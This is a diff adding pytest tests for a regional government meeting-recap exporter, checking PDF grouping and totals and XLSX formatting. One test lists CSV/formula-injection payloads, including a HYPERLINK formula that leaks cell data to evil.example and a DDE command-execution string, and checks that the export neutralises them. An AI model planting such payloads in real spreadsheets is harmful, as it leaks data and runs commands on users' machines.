@@ -1,0 +1,138 @@
+"""The recap for Biro Pemerintahan: PDF grouped by field then region, and the XLSX read back."""
+
+import io
+from decimal import Decimal
+
+import pytest
+from openpyxl import load_workbook
+
+from rakortek.documents.catalog import SPECS
+from rakortek.documents.rendering import RenderOptions
+from rakortek.documents.spreadsheet import COLUMNS, HEADER_ROW
+from tests.documents.conftest import decided_issue, flat, pdf_reader, pdf_text
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
+    "+62 811 1234",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+]
+
+
+@pytest.fixture
+def recap_meeting(monday_meeting, decided_desk, desk_sda):
+    decided_issue(
+        desk_sda,
+        "pangkalpinang",
+        title="Pengendalian banjir DAS Rangkui",
+        rank=1,
+        decision="prioritas",
+        cost=Decimal("42500000000"),
+        funding_source="apbn",
+        authority="pusat",
+        volume=Decimal("4.2"),
+        unit="km",
+    )
+    decided_issue(
+        desk_sda,
+        "bangka",
+        title="Abrasi pantai Matras",
+        rank=2,
+        decision="cadangan",
+        reason="Menunggu kajian BWS.",
+    )
+    return monday_meeting
+
+
+def render(meeting, key="rekapitulasi"):
+    return SPECS[key].render(meeting, None, RenderOptions.create())
+
+
+def test_recap_pdf_groups_by_field_then_region_with_totals(recap_meeting):
+    output = render(recap_meeting)
+    text = flat(pdf_text(output.content))
+    assert output.refused_urls == []
+    assert "REKAPITULASI ISU STRATEGIS" in text.upper()
+    for header in ["Kab/Kota", "Isu", "Lokasi", "Penanganan", "Biaya", "Sumber Dana", "Kewenangan"]:
+        assert header in text
+    bina_marga = text.index("Bidang Bina Marga")
+    sda = text.index("Bidang Sumber Daya Air")
+    assert bina_marga < sda
+    # Within a field, regions in Kemendagri order: Bangka, Belitung, then Pangkalpinang.
+    assert (
+        text.index("Rekonstruksi ruas Sungailiat", bina_marga)
+        < text.index("Jembatan Sungai Cerucuk", bina_marga)
+        < text.index("Pelebaran Jalan Lingkar Timur", bina_marga)
+    )
+    assert text.index("Abrasi pantai Matras", sda) < text.index("Pengendalian banjir", sda)
+    assert "4,2 km" in text and "APBN" in text and "Pusat" in text
+    assert "Rp42.500.000.000" in text
+    # 38.000.000.000 + 1.250.000 + 1.250.000.000 * 2 in Bina Marga.
+    assert "Jumlah Bidang Bina Marga Rp40.501.250.000" in text
+    assert "Jumlah seluruhnya (6 isu) Rp84.251.250.000" in text
+    assert "Bahan Rapat Koordinasi Gubernur (RAKORGUB) untuk Biro Pemerintahan" in text
+    assert float(pdf_reader(output.content).pages[0].mediabox.width) > float(
+        pdf_reader(output.content).pages[0].mediabox.height
+    )
+
+
+def read_xlsx(content: bytes):
+    return load_workbook(io.BytesIO(content)).active
+
+
+def test_recap_xlsx_has_styled_frozen_header_and_real_numbers(recap_meeting):
+    output = render(recap_meeting, "rekapitulasi-xlsx")
+    assert output.content_type.endswith("spreadsheetml.sheet")
+    sheet = read_xlsx(output.content)
+    headers = [sheet.cell(row=HEADER_ROW, column=c).value for c in range(1, len(COLUMNS) + 1)]
+    assert headers == [name for name, _width in COLUMNS]
+    assert sheet.freeze_panes == f"A{HEADER_ROW + 1}"
+    assert sheet.cell(row=HEADER_ROW, column=1).font.bold
+    assert sheet.column_dimensions["C"].width == 40
+    rows = {
+        sheet.cell(row=r, column=3).value: r
+        for r in range(HEADER_ROW + 1, sheet.max_row + 1)
+        if sheet.cell(row=r, column=3).value
+    }
+    flood = rows["SDA-01 Pengendalian banjir DAS Rangkui"]
+    cost = sheet.cell(row=flood, column=8)
+    assert cost.value == 42500000000 and cost.data_type == "n"
+    assert cost.number_format == '"Rp"#,##0'
+    volume = sheet.cell(row=flood, column=6)
+    assert volume.value == pytest.approx(4.2) and volume.data_type == "n"
+    assert sheet.cell(row=flood, column=7).value == "km"
+    assert sheet.cell(row=flood, column=11).value == "Prioritas"
+    assert sheet.cell(row=flood, column=2).value == "Kota Pangkalpinang"
+    labels = [sheet.cell(row=r, column=2).value for r in range(1, sheet.max_row + 1)]
+    total_row = labels.index("JUMLAH SELURUHNYA") + 1
+    assert sheet.cell(row=total_row, column=8).value == 84251250000
+    assert "DRAF" in sheet["A3"].value
+
+
+def test_recap_xlsx_text_that_looks_like_a_formula_stays_text(monday_meeting, desk_bina_marga):
+    for number, text in enumerate(HOSTILE, start=1):
+        decided_issue(
+            desk_bina_marga,
+            "bangka",
+            title=f"Isu {number}",
+            proposed_handling=text,
+            place=text,
+            decision="cadangan",
+            reason=text,
+        )
+    sheet = read_xlsx(render(monday_meeting, "rekapitulasi-xlsx").content)
+    found = []
+    for row in sheet.iter_rows(min_row=HEADER_ROW + 1):
+        for cell in row:
+            if cell.value in HOSTILE:
+                found.append(cell.value)
+                assert cell.data_type == "s", cell.coordinate
+                assert cell.quotePrefix, cell.coordinate
+    assert sorted(set(found)) == sorted(HOSTILE)
+    # No cell anywhere in the workbook is a formula.
+    assert all(
+        cell.data_type != "f" for row in sheet.iter_rows() for cell in row if cell.value is not None
+    )
